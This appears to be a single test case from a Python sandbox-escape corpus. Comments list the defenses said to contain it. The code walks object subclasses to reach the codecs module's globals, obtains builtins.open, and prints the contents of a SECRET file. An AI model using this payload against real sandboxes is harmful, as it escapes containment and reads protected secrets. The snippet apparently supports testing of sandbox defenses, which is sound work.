# Takes open from the globals of codecs.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
kinds = [kind for kind in type.__subclasses__(object) if kind.__module__ == 'codecs' or kind.__module__ == '_codecs']
import_like = [kind.__init__.__globals__ for kind in type.__subclasses__(object) if getattr(kind.__init__, '__globals__', None) and kind.__module__ == 'codecs']
print(import_like[0]['builtins'].open(SECRET).read())
